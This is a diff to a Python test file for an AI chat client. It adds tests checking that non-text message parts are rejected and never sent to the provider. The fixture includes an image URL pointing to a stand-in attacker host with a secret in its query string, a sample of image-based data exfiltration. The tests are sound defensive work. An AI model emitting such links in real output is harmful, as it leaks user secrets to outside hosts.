@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import asyncio
 import contextlib
+import re
 from collections.abc import AsyncGenerator
 from contextlib import asynccontextmanager
 from typing import Any
@@ -65,6 +66,31 @@ async def test_what_is_no_list_is_named_and_not_sent(given: Any) -> None:
             with pytest.raises(MeshUnavailable, match="texts: must be a list of texts"):
                 await client.embed(given)
         assert provider.requests == []
+
+
+IMAGE = {"type": "image_url", "image_url": {"url": "https://attacker.example/?d=secret"}}
+
+
+@pytest.mark.parametrize(
+    ("message", "where"),
+    [
+        ({"role": "user", "content": [{"type": "text", "text": "see"}, IMAGE]}, "messages[1].content[1]"),
+        ({"role": "user", "content": [{"type": "text", "text": IMAGE}]}, "messages[1].content[0]"),
+        ({"role": "user", "content": [{"type": "text", "text": "see", **IMAGE}]}, "messages[1].content[0]"),
+        ({"role": "user", "content": ["see"]}, "messages[1].content[0]"),
+        ({"role": "user", "content": IMAGE}, "messages[1].content"),
+        ({"role": "user"}, "messages[1].content"),
+        ({"role": "user", "content": "see", "images": ["https://attacker.example"]}, "messages[1].images"),
+    ],
+)
+async def test_a_skill_sends_text_alone(message: dict[str, Any], where: str) -> None:
+    fine = {"role": "system", "content": [{"type": "text", "text": "be brief"}]}
+    with ScriptedProvider([Say("ok")]) as provider:
+        async with mesh_of(provider.url) as (client, _, _):
+            with pytest.raises(MeshUnavailable, match=f"^{re.escape(where)}: "):
+                await client.chat([fine, message])
+            assert provider.requests == []
+            assert (await client.chat([fine, *ASK]))["content"] == "ok"
 
 
 async def test_a_mesh_that_refuses_is_unavailable() -> None:
